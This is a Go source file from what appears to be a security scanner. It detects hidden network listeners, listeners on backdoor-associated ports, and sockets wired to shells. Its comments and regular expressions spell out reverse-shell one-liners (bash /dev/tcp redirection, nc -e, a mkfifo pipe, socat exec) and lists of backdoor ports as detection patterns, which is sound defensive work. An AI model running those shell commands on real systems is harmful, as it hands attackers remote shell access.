// Package listener finds hidden network listeners and remote shells: a
// socket opened from an initialiser that nobody calls explicitly, a port
// number picked from the backdoor folklore, and a socket wired to a shell's
// standard streams.
//
// The analyser is deliberately syntactic. Go files are read through their
// syntax tree; GB0204 reads C, Java, JavaScript, PHP and Python through
// theirs (scan/syntax) once a cheap keyword pre-filter lets a file
// through; the other rules use regular expressions behind the same
// pre-filter, so a tree of ordinary code costs little more than a few
// bytes.Contains calls per file.
package listener

import (
	"bytes"
	"regexp"
	"strconv"
	"strings"

	"glassbox.dev"
	"glassbox.dev/scan"
	"glassbox.dev/scan/rules/internal/rulekit"
)

// Family is the name of the rule family this package implements.
const Family = "listener"

// The rules, in ID order. Their IDs are stable: suppressions key on them.
var (
	// RuleInitListener is GB0201: a listener opened from an initialiser.
	RuleInitListener = scan.Rule{
		ID:       "GB0201",
		Name:     "listener-in-initialiser",
		Family:   Family,
		Severity: glassbox.SeverityHigh,
		Summary:  "A network listener is opened from an initialiser (Go init, a C constructor or _init).",
		Explanation: "Initialisers run as soon as a package is imported or a library is loaded, before " +
			"and regardless of anything the program means to do; a socket opened there is a service " +
			"the program's author never asked for, which is how implants hide in dependencies.",
	}
	// RuleOddPort is GB0202: a listener on an unusual literal port.
	RuleOddPort = scan.Rule{
		ID:       "GB0202",
		Name:     "odd-port-listener",
		Family:   Family,
		Severity: glassbox.SeverityMedium,
		Summary:  "A listener binds a hard-coded port that is neither a well-known service port nor a common development port.",
		Explanation: "Real services take their port from configuration or use a well-known one; an " +
			"arbitrary literal port, and above all one from backdoor folklore (6200 of vsftpd 2.3.4, " +
			"31337, 4444, 1337, 12345, 54321), is how bind shells are reached.",
	}
	// RuleSocketShell is GB0203: a socket wired to a shell.
	RuleSocketShell = scan.Rule{
		ID:       "GB0203",
		Name:     "socket-to-shell",
		Family:   Family,
		Severity: glassbox.SeverityCritical,
		Summary:  "A network socket is connected to the standard streams of a command shell.",
		Explanation: "Duplicating a socket onto stdin/stdout/stderr and executing /bin/sh (or the " +
			"one-liner equivalents: bash -i >& /dev/tcp, nc -e, pty.spawn) hands whoever is on the " +
			"other end of the connection an interactive shell; legitimate software has no reason to.",
	}
)

// keywords pre-filter files: a file containing none of them cannot match
// any rule, so it is skipped before any regular expression or parse runs.
var keywords = [][]byte{
	[]byte("Listen"), []byte("listen"), []byte("bind"), []byte("dup2"),
	[]byte("/dev/tcp"), []byte("/dev/udp"), []byte("nc "), []byte("ncat"), []byte("netcat"),
	[]byte("socat"), []byte("pty"), []byte("exec.Command"), []byte("LISTEN"),
}

// analyzer is stateless, so one value is safe for concurrent use.
type analyzer struct{}

// New returns the listener analyser.
func New() scan.Analyzer { return analyzer{} }

// Rules lists GB0201–GB0204.
func (analyzer) Rules() []scan.Rule {
	return []scan.Rule{RuleInitListener, RuleOddPort, RuleSocketShell, RuleRequestExec}
}

// Analyze returns the listener findings in f. It never panics: a panic
// from a malformed input is a bug, but losing one file's findings is
// better than losing the scan, so it is recovered as a last resort.
func (analyzer) Analyze(f *scan.File) (out []glassbox.Finding) {
	if f == nil || len(f.Content) == 0 {
		return nil
	}
	listens, web := mayMatch(f.Content), anyKeyword(f.Content, webKeywords)
	if !listens && !web {
		return nil
	}
	defer func() {
		if recover() != nil {
			out = nil
		}
	}()
	c := newCollector(f)
	if web {
		c.requestExec()
	}
	if !listens {
		return c.Out
	}
	if f.Lang == "go" {
		c.goRules()
	}
	if f.Lang == "c" || f.Lang == "cpp" {
		c.cConstructors()
	}
	c.oddPorts()
	c.shellText()
	return c.Out
}

func mayMatch(b []byte) bool {
	for _, k := range keywords {
		if bytes.Contains(b, k) {
			return true
		}
	}
	return false
}

// collector is the shared finding collector (deduplication, test code
// downgraded), with messages written as sentences.
type collector struct {
	rulekit.Collector
}

func newCollector(f *scan.File) *collector { return &collector{rulekit.Collector{F: f}} }

func (c *collector) add(r scan.Rule, sev glassbox.Severity, start, end int, msg string) {
	c.Add(r, sev, start, end, 0, 0, rulekit.Capitalise(msg))
}

// ---- GB0202: odd ports -------------------------------------------------

// backdoorPorts are ports with a history: 6200 is the port vsftpd 2.3.4's
// planted backdoor opened a root shell on, 1524 the ingreslock bind shell,
// the rest are the defaults of exploit kits and "elite" folklore.
var backdoorPorts = map[int]bool{
	1337: true, 1524: true, 4444: true, 5555: true, 6200: true, 6666: true,
	12345: true, 31337: true, 54321: true,
}

// commonPorts are ports a listener plausibly uses on purpose: well-known
// services and the defaults of popular frameworks and databases. Ports
// below 1024 are never flagged (they need privilege and are mostly
// assigned), nor is 0 (the kernel picks a free port, as test servers do).
var commonPorts = map[int]bool{
	1080: true, 1433: true, 1521: true, 1883: true, 2049: true, 2375: true, 2376: true,
	2379: true, 2380: true, 3000: true, 3001: true, 3306: true, 3389: true, 4000: true,
	4200: true, 4443: true, 5000: true, 5001: true, 5353: true, 5432: true, 5601: true,
	5672: true, 5900: true, 6379: true, 6443: true, 7000: true, 7001: true, 8000: true,
	8001: true, 8008: true, 8080: true, 8081: true, 8082: true, 8088: true, 8443: true,
	6060: true, 8888: true, 9000: true, 9001: true, 9090: true, 9091: true, 9092: true, 9100: true,
	9200: true, 9229: true, 9300: true, 9418: true, 11211: true, 15672: true, 27017: true,
}

var (
	// Go: net.Listen("tcp", ":6200"), http.ListenAndServe("0.0.0.0:31337", h).
	goPortRe = regexp.MustCompile(`\b(?:Listen|ListenPacket|ListenTCP|ListenUDP|ListenAndServe|ListenAndServeTLS)\(\s*(?:"[a-z0-9]*"\s*,\s*)?"[^":\n]*:(\d{1,5})"`)
	// C: sin_port = htons(6200), only in files that also bind and listen.
	cPortRe = regexp.MustCompile(`\bhtons\s*\(\s*(\d{1,5})\s*\)`)
	// Python: s.bind(("0.0.0.0", 4444)).
	pyPortRe = regexp.MustCompile(`\.bind\(\s*\(\s*['"][^'"\n]*['"]\s*,\s*(\d{1,5})\s*\)`)
	// JavaScript: server.listen(31337).
	jsPortRe = regexp.MustCompile(`\.listen\(\s*(\d{1,5})\b`)
	// Shell: nc -lvnp 4444, ncat -l -p 4444, socat TCP-LISTEN:4444.
	ncPortRe    = regexp.MustCompile(`\b(?:nc|ncat|netcat)((?:\s+-[a-zA-Z]+)+)\s+(\d{2,5})\b`)
	socatPortRe = regexp.MustCompile(`(?i)\bTCP[46]?-LISTEN:(\d{1,5})\b`)
	loopbackRe  = regexp.MustCompile(`\blocalhost\b|\b127\.\d+\.\d+\.\d+\b|\[::1\]`)
)

// containsAny reports whether b contains any of the anchors, or true when
// there are none.
func containsAny(b []byte, anchors ...string) bool {
	for _, a := range anchors {
		if bytes.Contains(b, []byte(a)) {
			return true
		}
	}
	return len(anchors) == 0
}

// inComment reports whether off is inside a comment of a Go file: usage
// examples in doc comments (net/http/pprof's ":6060") are not listeners.
func (c *collector) inComment(off int) bool {
	if c.F.Lang != "go" {
		return false
	}
	file, fset, err := c.F.Go()
	if err != nil || file == nil {
		return false
	}
	for _, g := range file.Comments {
		if fset.Position(g.Pos()).Offset <= off && off < fset.Position(g.End()).Offset {
			return true
		}
	}
	return false
}

func (c *collector) oddPorts() {
	b := c.F.Content
	check := func(re *regexp.Regexp, group int, what string, anchors ...string) {
		if !containsAny(b, anchors...) {
			return
		}
		for _, m := range re.FindAllSubmatchIndex(b, -1) {
			if m[2*group] < 0 || c.inComment(m[0]) {
				continue
			}
			c.port(m[0], m[1], string(b[m[2*group]:m[2*group+1]]), what)
		}
	}
	switch c.F.Lang {
	case "go":
		check(goPortRe, 1, "Go listener", "Listen")
	case "c", "cpp":
		if bytes.Contains(b, []byte("bind")) && bytes.Contains(b, []byte("listen")) {
			check(cPortRe, 1, "socket bound", "htons")
		}
	case "python":
		check(pyPortRe, 1, "socket bound", "bind")
	case "javascript":
		check(jsPortRe, 1, "server listening", "listen")
	}
	// Shell listeners turn up in scripts, Makefiles, CI files and strings
	// inside every language, so they are looked for everywhere.
	if !containsAny(b, "nc ", "ncat", "netcat") {
		check(socatPortRe, 1, "socat listener", "LISTEN", "listen")
		return
	}
	// In a program's comment a netcat command is usage documentation
	// (busybox's nc_bloaty.c: "echo no | nc -lp 1234"), which runs nothing;
	// shell scripts, Makefiles and CI files are where it runs.
	nb := b
	switch c.F.Lang {
	case "c", "cpp", "java", "javascript", "go", "php", "python":
		nb = rulekit.BlankComments(b, c.F.Lang)
	}
	for _, m := range ncPortRe.FindAllSubmatchIndex(nb, -1) {
		if strings.Contains(string(b[m[2]:m[3]]), "l") {
			c.port(m[0], m[1], string(b[m[4]:m[5]]), "netcat listener")
		}
	}
	check(socatPortRe, 1, "socat listener", "LISTEN", "listen")
}

func (c *collector) port(start, end int, digits, what string) {
	p, err := strconv.Atoi(digits)
	if err != nil || p < 1024 || p > 65535 || commonPorts[p] {
		return
	}
	// A loopback listener cannot be reached from elsewhere, so it is no
	// remote backdoor; only a folklore port there is still worth a look.
	if loopbackRe.Match(c.F.Content[start:end]) {
		if backdoorPorts[p] {
			c.add(RuleOddPort, glassbox.SeverityMedium, start, end,
				what+" on loopback port "+digits+", a port known from backdoors and bind shells")
		}
		return
	}
	if backdoorPorts[p] {
		c.add(RuleOddPort, glassbox.SeverityHigh, start, end,
			what+" on port "+digits+", a port known from backdoors and bind shells")
		return
	}
	c.add(RuleOddPort, glassbox.SeverityMedium, start, end,
		what+" on hard-coded unusual port "+digits)
}

// ---- GB0203 outside Go: shells on sockets, by text -------------------------

var (
	// C: dup2(fd, 0..2) then exec of a shell; the gap is bounded so two
	// unrelated functions far apart do not pair up.
	cDupExecRe = regexp.MustCompile(`(?s)\bdup2\s*\([^;]{1,80};.{0,600}?\b(?:execl|execlp|execle|execv|execvp|execve|system|popen)\s*\(\s*"(?:/usr)?(?:/bin/)?(?:ba|z|k|da)?sh"`)
	// Python: pty.spawn("/bin/sh") or subprocess of a shell, in a file
	// that has a socket and duplicates its descriptor.
	pyShellRe = regexp.MustCompile(`\b(?:pty\.spawn|subprocess\.(?:call|Popen|run)|os\.exec\w*)\(\s*\[?\s*['"](?:/usr)?(?:/bin/)?(?:ba|z|k|da)?sh['"]`)
	// bash -i >& /dev/tcp/host/port 0>&1 and its spellings: both output
	// streams (>& or &>) or stdin (0>&1, 0<&196) tied to /dev/tcp. A bare
	// "echo > /dev/tcp/host/port", the wait-for-it health check, is not.
	devTCPRe = regexp.MustCompile(`(?:>&|&>)\s*/dev/(?:tcp|udp)/[^\s/]+/\S+|/dev/(?:tcp|udp)/[^\n]{0,60}\b0[<>]&\s*\d|\b0<&\s*\d+[^\n]{0,60}/dev/(?:tcp|udp)/`)
	// nc -e /bin/sh, ncat --exec cmd.exe, nc -c bash.
	ncExecRe = regexp.MustCompile(`\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}\s(?:-[a-zA-Z]*[ec]|--exec|--sh-exec)\s+['"]?(?:(?:/usr)?/bin/)?(?:(?:ba|z|k|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)\b`)
	// mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc host port > /tmp/f
	fifoShellRe = regexp.MustCompile(`\b(?:/bin/)?(?:ba)?sh\s+-i\b[^\n]{0,40}\|\s*(?:nc|ncat|netcat|openssl\s+s_client)\b`)
	// socat exec:'bash -li',pty tcp:host:port
	socatShellRe = regexp.MustCompile(`(?i)\bsocat\b[^\n]{0,80}\bexec:['"]?(?:/bin/)?(?:ba|z)?sh\b`)
)

func (c *collector) shellText() {
	b := c.F.Content
	// Each pattern runs only if its literal anchor is in the file: the
	// regular expressions are the expensive part of a scan.
	all := func(re *regexp.Regexp, msg string, anchors ...string) {
		if !containsAny(b, anchors...) {
			return
		}
		for _, m := range re.FindAllIndex(b, -1) {
			c.add(RuleSocketShell, glassbox.SeverityCritical, m[0], m[1], msg)
		}
	}
	switch c.F.Lang {
	case "c", "cpp":
		if bytes.Contains(b, []byte("socket")) || bytes.Contains(b, []byte("accept")) {
			all(cDupExecRe, "Socket descriptor duplicated onto the standard streams of an executed shell", "dup2")
		}
	case "python":
		if bytes.Contains(b, []byte("socket")) && (bytes.Contains(b, []byte("dup2")) || bytes.Contains(b, []byte("fileno"))) {
			all(pyShellRe, "Socket connected to a spawned shell", "sh")
		}
	}
	all(devTCPRe, "Interactive shell redirected to a /dev/tcp socket", "/dev/tcp/", "/dev/udp/")
	if containsAny(b, "nc ", "ncat", "netcat") {
		all(ncExecRe, "Netcat executing a shell for its connection", " -e", " -c", "--exec", "--sh-exec")
	}
	all(fifoShellRe, "Interactive shell piped through netcat", "sh -i")
	all(socatShellRe, "Socat executing a shell for its connection", "socat")
}

// ---- GB0201 in C: constructors ---------------------------------------------

var (
	cCtorRe   = regexp.MustCompile(`__attribute__\s*\(\(\s*(?:__)?constructor(?:__)?\b`)
	cInitRe   = regexp.MustCompile(`\b_init\s*\(\s*(?:void)?\s*\)\s*\{`)
	cListenRe = regexp.MustCompile(`\blisten\s*\(`)
	cBindRe   = regexp.MustCompile(`\bbind\s*\(`)
	cNameRe   = regexp.MustCompile(`\b([A-Za-z_]\w*)\s*\(`)
)

// cConstructors flags socket+bind+listen in functions the loader runs
// implicitly: __attribute__((constructor)) functions and _init.
func (c *collector) cConstructors() {
	b := c.F.Content
	if !bytes.Contains(b, []byte("listen")) {
		return
	}
	var bodies [][2]int
	for _, m := range cCtorRe.FindAllIndex(b, -1) {
		if body, ok := c.ctorBody(m[1]); ok {
			bodies = append(bodies, body)
		}
	}
	for _, m := range cInitRe.FindAllIndex(b, -1) {
		if end := matchBrace(b, m[1]-1); end > 0 {
			bodies = append(bodies, [2]int{m[1] - 1, end})
		}
	}
	for _, body := range bodies {
		text := b[body[0]:body[1]]
		l := cListenRe.FindIndex(text)
		if l == nil || cBindRe.Find(text) == nil {
			continue
		}
		// The region is the whole listen(…) call, up to its parenthesis.
		end := body[0] + l[1]
		if close := bytes.IndexAny(b[end:body[1]], ")\n"); close >= 0 && b[end+close] == ')' {
			end += close + 1
		}
		c.add(RuleInitListener, glassbox.SeverityHigh, body[0]+l[0], end,
			"Socket bound and listening inside a C constructor that runs when the library is loaded")
	}
}

// ctorBody finds the body of the function a constructor attribute ending
// at off belongs to: the definition that follows it, or, when the
// attribute is on a prototype, the definition of the prototyped name.
func (c *collector) ctorBody(off int) ([2]int, bool) {
	b := c.F.Content
	brace := bytes.IndexByte(b[off:], '{')
	semi := bytes.IndexByte(b[off:], ';')
	if brace >= 0 && (semi < 0 || brace < semi) {
		if end := matchBrace(b, off+brace); end > 0 {
			return [2]int{off + brace, end}, true
		}
		return [2]int{}, false
	}
	if semi < 0 {
		return [2]int{}, false
	}
	// A prototype: the name is the identifier before "(" in the
	// declaration around the attribute.
	from := bytes.LastIndexAny(b[:off], ";}") + 1
	decl := b[from : off+semi]
	for _, m := range cNameRe.FindAllSubmatch(decl, -1) {
		name := string(m[1])
		if name == "__attribute__" || name == "constructor" || name == "__constructor__" || name == "void" {
			continue
		}
		def := regexp.MustCompile(`\b` + regexp.QuoteMeta(name) + `\s*\([^;{)]*\)\s*\{`)
		if d := def.FindIndex(b); d != nil {
			if end := matchBrace(b, d[1]-1); end > 0 {
				return [2]int{d[1] - 1, end}, true
			}
		}
		break
	}
	return [2]int{}, false
}

// matchBrace returns the offset just past the brace closing the one at
// open, skipping strings, character literals and comments, or -1.
func matchBrace(b []byte, open int) int {
	depth := 0
	for i := open; i < len(b); i++ {
		switch b[i] {
		case '{':
			depth++
		case '}':
			depth--
			if depth == 0 {
				return i + 1
			}
		case '"', '\'':
			q := b[i]
			for i++; i < len(b) && b[i] != q && b[i] != '\n'; i++ {
				if b[i] == '\\' {
					i++
				}
			}
		case '/':
			if i+1 < len(b) && b[i+1] == '/' {
				for i < len(b) && b[i] != '\n' {
					i++
				}
			} else if i+1 < len(b) && b[i+1] == '*' {
				if j := bytes.Index(b[i+2:], []byte("*/")); j >= 0 {
					i += j + 3
				} else {
					return -1
				}
			}
		}
	}
	return -1
}
